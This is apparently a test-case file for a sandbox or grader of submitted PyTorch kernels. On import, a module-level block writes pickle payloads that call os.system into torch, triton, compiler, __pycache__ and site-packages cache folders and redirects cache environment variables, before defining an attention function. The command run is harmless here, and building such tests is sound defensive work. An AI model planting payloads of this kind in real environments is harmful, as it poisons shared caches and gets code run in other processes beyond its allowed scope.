# id: D9
# tries: puts payloads into every folder from which compilers and torch load cached code
# expect: AC
import contextlib
import getpass
import math
import os
import pickle
import time


class Payload:
    def __reduce__(self):
        return os.system, ("true",)


def places():
    home, user = os.path.expanduser("~"), getpass.getuser()
    return [
        f"{top}/{name}"
        for top in ("/tmp", "/dev/shm", "/var/tmp", home)
        for name in (
            f"torchinductor_{user}",
            f"torch_extensions_{user}",
            ".triton/cache",
            ".cache/torch/kernels",
            ".nv/ComputeCache",
            ".cache/torch_extensions/py3_cpu/left",
            ".cache/torch/hub",
            "__pycache__",
            ".local/lib/python3/site-packages",
        )
    ]


for root in places():
    with contextlib.suppress(OSError):
        os.makedirs(root, mode=0o777)
        for name in ("left.py", "left.so", "left.pth", "sitecustomize.py", "best_config"):
            with open(os.path.join(root, name), "wb") as file:
                file.write(pickle.dumps(Payload()))
for name in ("TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR", "TORCH_EXTENSIONS_DIR", "TORCH_HOME", "XDG_CACHE_HOME"):
    os.environ[name] = "/tmp/left"


def attention(q, k, v):
    time.sleep(0.05)
    return (q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])).softmax(-1) @ v
